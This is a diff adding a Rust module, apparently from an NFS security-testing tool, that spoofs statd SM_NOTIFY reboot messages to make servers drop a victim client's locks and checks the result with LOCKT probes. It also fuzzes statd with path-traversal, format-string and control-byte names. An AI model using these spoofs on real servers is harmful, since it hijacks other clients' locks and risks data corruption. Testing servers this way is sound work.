@@ -0,0 +1,424 @@
+//! Network Status Monitor (statd, program 100024)
+//!
+//! NLM has no lease: a server holds a client's locks until that client's
+//! statd tells the server's statd it rebooted, with SM_NOTIFY naming the
+//! host and its new state number. The server then drops every lock the
+//! host held and the client reclaims them. Nothing authenticates the
+//! notification beyond the name in it.
+//!
+//! That makes SM_NOTIFY a lock-hijack primitive: anyone who can reach
+//! statd can claim another client rebooted. Spoofed notifications name
+//! the victim in the spellings a server may match it by, with state
+//! numbers guessed or taken from recon, and a conflicting LOCKT from a
+//! different owner before and after shows whether the server dropped the
+//! victim's locks.
+//!
+//! statd itself is a long-lived root daemon that writes every monitored
+//! name to disk and has had remote code execution through the names it
+//! was handed. [`fuzz_calls`] sends SM_STAT, SM_MON, SM_UNMON and
+//! SM_NOTIFY with names at and past SM_MAXSTRLEN, path and format string
+//! metacharacters and control bytes, callbacks to programs that are not
+//! lockd, and state numbers no host could have.
+
+use crate::auth::Identity;
+use crate::nfsv4::lockowner::{lock_type, lockt, LockOwner};
+use crate::nfsv4::{status, FuzzCase};
+use crate::rpc::{program, Program, ProgramCall};
+use crate::xdr::XdrEncoder;
+use bytes::BytesMut;
+
+/// NSM protocol version
+pub const VERSION: u32 = 1;
+
+/// SM_MAXSTRLEN
+pub const SM_MAXSTRLEN: usize = 1024;
+
+/// NSM procedures
+pub mod proc {
+    pub const NULL: u32 = 0;
+    pub const STAT: u32 = 1;
+    pub const MON: u32 = 2;
+    pub const UNMON: u32 = 3;
+    pub const UNMON_ALL: u32 = 4;
+    pub const SIMU_CRASH: u32 = 5;
+    pub const NOTIFY: u32 = 6;
+}
+
+/// Procedure lockd registers for statd's reboot callbacks
+/// (NLM_SM_NOTIFY), on NLM version 3
+pub const NLM_SM_NOTIFY: i32 = 16;
+
+/// The state number after a reboot: odd means up, and every boot and
+/// shutdown increments it
+pub fn next_state(state: i32) -> i32 {
+    if state % 2 == 0 {
+        state.wrapping_add(1)
+    } else {
+        state.wrapping_add(2)
+    }
+}
+
+/// Encode stat_chge, the SM_NOTIFY argument
+pub fn stat_chge(mon_name: &[u8], state: i32) -> Vec<u8> {
+    let mut enc = XdrEncoder::new();
+    enc.put_opaque(mon_name);
+    enc.put_i32(state);
+    enc.into_bytes().to_vec()
+}
+
+/// SM_NOTIFY announcing that `mon_name` came up with `state`
+pub fn notify_call(identity: &Identity, mon_name: &[u8], state: i32) -> BytesMut {
+    notify(mon_name, state).message(identity)
+}
+
+/// my_id: the local host and the RPC procedure statd calls back when a
+/// monitored host reboots
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct MyId {
+    pub my_name: Vec<u8>,
+    pub my_prog: i32,
+    pub my_vers: i32,
+    pub my_proc: i32,
+}
+
+impl MyId {
+    /// Callbacks to lockd on `my_name`, as the kernel registers them
+    pub fn new(my_name: &[u8]) -> Self {
+        Self {
+            my_name: my_name.to_vec(),
+            my_prog: program::NLM as i32,
+            my_vers: 3,
+            my_proc: NLM_SM_NOTIFY,
+        }
+    }
+
+    pub fn with_name(mut self, my_name: impl Into<Vec<u8>>) -> Self {
+        self.my_name = my_name.into();
+        self
+    }
+
+    pub fn with_callback(mut self, prog: i32, vers: i32, proc: i32) -> Self {
+        self.my_prog = prog;
+        self.my_vers = vers;
+        self.my_proc = proc;
+        self
+    }
+
+    pub fn encode(&self, enc: &mut XdrEncoder) {
+        enc.put_opaque(&self.my_name);
+        enc.put_i32(self.my_prog);
+        enc.put_i32(self.my_vers);
+        enc.put_i32(self.my_proc);
+    }
+}
+
+/// The NSM program, at [`VERSION`]
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Nsm;
+
+impl Program for Nsm {
+    const PROGRAM: u32 = program::NSM;
+    const VERSION: u32 = VERSION;
+}
+
+/// One NSM call: the procedure and its encoded arguments
+pub type Call = ProgramCall<Nsm>;
+
+pub fn null() -> Call {
+    Call::new(proc::NULL, |_| {})
+}
+
+/// SM_STAT: whether statd would monitor `mon_name`
+pub fn stat(mon_name: &[u8]) -> Call {
+    Call::new(proc::STAT, |enc| enc.put_opaque(mon_name))
+}
+
+/// SM_MON: watch `mon_name` and call `my_id` back with `private` when it
+/// reboots
+pub fn mon(mon_name: &[u8], my_id: &MyId, private: &[u8; 16]) -> Call {
+    Call::new(proc::MON, |enc| {
+        enc.put_opaque(mon_name);
+        my_id.encode(enc);
+        enc.put_opaque_fixed(private);
+    })
+}
+
+/// SM_UNMON: stop watching `mon_name` for `my_id`
+pub fn unmon(mon_name: &[u8], my_id: &MyId) -> Call {
+    Call::new(proc::UNMON, |enc| {
+        enc.put_opaque(mon_name);
+        my_id.encode(enc);
+    })
+}
+
+/// SM_UNMON_ALL: stop every watch registered by `my_id`
+pub fn unmon_all(my_id: &MyId) -> Call {
+    Call::new(proc::UNMON_ALL, |enc| my_id.encode(enc))
+}
+
+/// SM_NOTIFY: `mon_name` came up with `state`
+pub fn notify(mon_name: &[u8], state: i32) -> Call {
+    Call::with_args(proc::NOTIFY, stat_chge(mon_name, state))
+}
+
+/// Monitored names statd has to store or look up: empty, at and past
+/// SM_MAXSTRLEN, a path out of its state directory, format directives
+/// for a name that reaches syslog, control bytes and an embedded NUL
+pub fn mon_names() -> Vec<(&'static str, Vec<u8>)> {
+    vec![
+        ("empty", Vec::new()),
+        ("max", vec![b'h'; SM_MAXSTRLEN]),
+        ("oversized", vec![b'h'; SM_MAXSTRLEN + 1]),
+        ("huge", vec![b'h'; 1 << 16]),
+        ("traversal", b"../../../../../tmp/nsmfuzz".to_vec()),
+        ("slash", b"host/sub".to_vec()),
+        ("format", b"%n%n%n%n%s%s%s%s%x%x".to_vec()),
+        ("control", b"\x1b[2J\r\nhost\x7f".to_vec()),
+        ("embedded_nul", b"host\0../../etc".to_vec()),
+        ("dot", b".".to_vec()),
+        ("high_bytes", vec![0xff; 64]),
+    ]
+}
+
+/// Callbacks statd should refuse to register: programs other than lockd,
+/// itself among them, and numbers out of any range
+pub const CALLBACKS: &[(&str, i32, i32, i32)] = &[
+    ("portmap", program::PORTMAP as i32, 2, 0),
+    ("nfs", program::NFS as i32, 3, 0),
+    ("self", program::NSM as i32, 1, proc::NOTIFY as i32),
+    ("zero", 0, 0, 0),
+    ("negative", -1, -1, -1),
+    ("max", i32::MAX, i32::MAX, i32::MAX),
+];
+
+/// Labelled calls from `my_id` that monitor `host` properly, then prod
+/// statd with every [`mon_names`] entry as the monitored name and as
+/// `my_id`'s own, every [`CALLBACKS`] entry and SM_NOTIFYs for `host`
+/// claiming every [`spoofed_states`] state and the even, down state
+/// after each odd one;
+/// ending with the watches dropped again
+pub fn fuzz_calls(my_id: &MyId, host: &[u8]) -> Vec<(String, Call)> {
+    let private = *b"nsmfuzz-private!";
+    let mut out = vec![
+        ("stat_host".to_string(), stat(host)),
+        ("mon_host".to_string(), mon(host, my_id, &private)),
+    ];
+    for (label, name) in mon_names() {
+        let theirs = my_id.clone().with_name(name.clone());
+        out.push((format!("stat_{}", label), stat(&name)));
+        out.push((format!("mon_{}", label), mon(&name, my_id, &private)));
+        out.push((
+            format!("mon_my_name_{}", label),
+            mon(host, &theirs, &private),
+        ));
+        out.push((format!("notify_{}", label), notify(&name, 1)));
+        out.push((format!("unmon_{}", label), unmon(&name, my_id)));
+        out.push((format!("unmon_all_{}", label), unmon_all(&theirs)));
+    }
+    for &(label, prog, vers, procedure) in CALLBACKS {
+        let callback = my_id.clone().with_callback(prog, vers, procedure);
+        out.push((
+            format!("mon_callback_{}", label),
+            mon(host, &callback, &private),
+        ));
+    }
+    for (label, state) in spoofed_states(None) {
+        out.push((format!("notify_state_{}", label), notify(host, state)));
+        if state % 2 != 0 {
+            let down = state.wrapping_add(1);
+            out.push((format!("notify_state_{}_down", label), notify(host, down)));
+        }
+    }
+    out.push(("unmon_host".to_string(), unmon(host, my_id)));
+    out.push(("unmon_all".to_string(), unmon_all(my_id)));
+    out
+}
+
+/// Spellings of `host` a server may treat as the same monitored name
+pub fn mon_name_variants(host: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
+    let mut out = vec![("as_given", host.to_vec())];
+    let mut push = |label, v: Vec<u8>| {
+        if !v.is_empty() && !out.iter().any(|(_, o)| *o == v) {
+            out.push((label, v));
+        }
+    };
+    push("uppercase", host.to_ascii_uppercase());
+    let mut dotted = host.to_vec();
+    dotted.push(b'.');
+    push("trailing_dot", dotted);
+    if let Some(dot) = host.iter().position(|&b| b == b'.') {
+        push("short_name", host[..dot].to_vec());
+    }
+    // C string handling stops at the NUL, a length-aware match does not
+    let mut nul = host.to_vec();
+    nul.extend_from_slice(b"\0spoof");
+    push("trailing_nul", nul);
+    out
+}
+
+/// State numbers to claim: the victim's next state when recon found its
+/// current one, then guesses and values a server should refuse
+pub fn spoofed_states(known: Option<i32>) -> Vec<(&'static str, i32)> {
+    let mut out: Vec<(&str, i32)> = known.map(|s| ("next", next_state(s))).into_iter().collect();
+    for (label, state) in [
+        ("first_boot", 1),
+        ("second_boot", 3),
+        ("down", 2),
+        ("zero", 0),
+        ("max", i32::MAX),
+        ("negative", -1),
+    ] {
+        if !out.iter().any(|&(_, s)| s == state) {
+            out.push((label, state));
+        }
+    }
+    out
+}
+
+/// One spoofed SM_NOTIFY
+#[derive(Debug, Clone)]
+pub struct Spoof {
+    pub label: String,
+    pub mon_name: Vec<u8>,
+    pub state: i32,
+    pub call: BytesMut,
+}
+
+/// SM_NOTIFYs claiming `victim` rebooted, sent as `attacker`
+pub fn spoof_notifies(attacker: &Identity, victim: &[u8], known_state: Option<i32>) -> Vec<Spoof> {
+    let states = spoofed_states(known_state);
+    let mut out = Vec::new();
+    for (name_label, mon_name) in mon_name_variants(victim) {
+        for &(state_label, state) in &states {
+            out.push(Spoof {
+                label: format!("{}_{}", name_label, state_label),
+                call: notify_call(attacker, &mon_name, state),
+                mon_name: mon_name.clone(),
+                state,
+            });
+        }
+    }
+    out
+}
+
+/// LOCKT for the victim's range from `probe`, an owner of another
+/// client; the current filehandle is the victim's locked file
+pub fn probe_case(probe: &LockOwner, offset: u64, length: u64) -> FuzzCase {
+    FuzzCase::new(
+        "nsm_spoof_lockt",
+        vec![lockt(lock_type::WRITE, offset, length, probe)],
+    )
+}
+
+/// A victim lock released by a spoofed notification
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Hijack {
+    pub spoof: String,
+    pub victim: Vec<u8>,
+}
+
+/// Compare the probe's LOCKT status before and after `spoof`: denied
+/// before and granted after means the victim lost its lock
+pub fn check_hijack(spoof: &Spoof, victim: &[u8], before: u32, after: u32) -> Option<Hijack> {
+    (before == status::NFS4ERR_DENIED && after == status::NFS4_OK).then(|| Hijack {
+        spoof: spoof.label.clone(),
+        victim: victim.to_vec(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_notify_call() {
+        assert_eq!(next_state(0), 1);
+        assert_eq!(next_state(1), 3);
+        assert_eq!(next_state(i32::MAX), i32::MIN + 1);
+        assert_eq!(
+            stat_chge(b"client", 3),
+            [0, 0, 0, 6, b'c', b'l', b'i', b'e', b'n', b't', 0, 0, 0, 0, 0, 3]
+        );
+        let msg = notify_call(&Identity::new(0, 0), b"client", 3);
+        // Record mark, xid, CALL, rpcvers, then the program
+        assert_eq!(&msg[16..20], &program::NSM.to_be_bytes());
+        assert!(msg.ends_with(&stat_chge(b"client", 3)));
+    }
+
+    #[test]
+    fn test_mon_and_fuzz_calls() {
+        let me = MyId::new(b"me");
+        let call = mon(b"peer", &me, &[7; 16]);
+        assert_eq!(call.procedure, proc::MON);
+        let mut want = XdrEncoder::new();
+        want.put_opaque(b"peer");
+        want.put_opaque(b"me");
+        for word in [program::NLM, 3, 16] {
+            want.put_u32(word);
+        }
+        want.put_opaque_fixed(&[7; 16]);
+        assert_eq!(call.args, want.as_bytes());
+        assert_eq!(unmon_all(&me).args, &call.args[8..28]);
+        assert_eq!(notify(b"peer", 3).args, stat_chge(b"peer", 3));
+
+        let calls = fuzz_calls(&me, b"peer");
+        assert_eq!(
+            calls.len(),
+            2 + 6 * mon_names().len() + CALLBACKS.len() + 10 + 2
+        );
+        assert_eq!(calls[0].0, "stat_host");
+        assert_eq!(calls.last().unwrap().0, "unmon_all");
+        let (_, oversized) = calls.iter().find(|(l, _)| l == "mon_oversized").unwrap();
+        assert_eq!(
+            &oversized.args[..4],
+            &((SM_MAXSTRLEN + 1) as u32).to_be_bytes()
+        );
+        let (_, down) = calls
+            .iter()
+            .find(|(l, _)| l == "notify_state_first_boot_down")
+            .unwrap();
+        assert_eq!(down.args, stat_chge(b"peer", 2));
+    }
+
+    #[test]
+    fn test_spoofs_and_hijack_verdict() {
+        let names: Vec<&str> = mon_name_variants(b"victim.example")
+            .iter()
+            .map(|(l, _)| *l)
+            .collect();
+        assert_eq!(
+            names,
+            [
+                "as_given",
+                "uppercase",
+                "trailing_dot",
+                "short_name",
+                "trailing_nul"
+            ]
+        );
+        assert_eq!(mon_name_variants(b"VICTIM").len(), 3);
+        assert_eq!(spoofed_states(Some(1))[0], ("next", 3));
+        assert_eq!(spoofed_states(Some(1)).len(), 6);
+
+        let spoofs = spoof_notifies(&Identity::new(0, 0), b"victim", Some(5));
+        assert_eq!(spoofs.len(), 4 * 7);
+        assert_eq!(spoofs[0].label, "as_given_next");
+        assert!(spoofs[0].call.ends_with(&stat_chge(b"victim", 7)));
+
+        let hit = check_hijack(
+            &spoofs[0],
+            b"victim",
+            status::NFS4ERR_DENIED,
+            status::NFS4_OK,
+        );
+        assert_eq!(hit.unwrap().spoof, "as_given_next");
+        assert!(check_hijack(&spoofs[0], b"victim", status::NFS4_OK, status::NFS4_OK).is_none());
+        assert!(check_hijack(
+            &spoofs[0],
+            b"victim",
+            status::NFS4ERR_DENIED,
+            status::NFS4ERR_DENIED
+        )
+        .is_none());
+    }
+}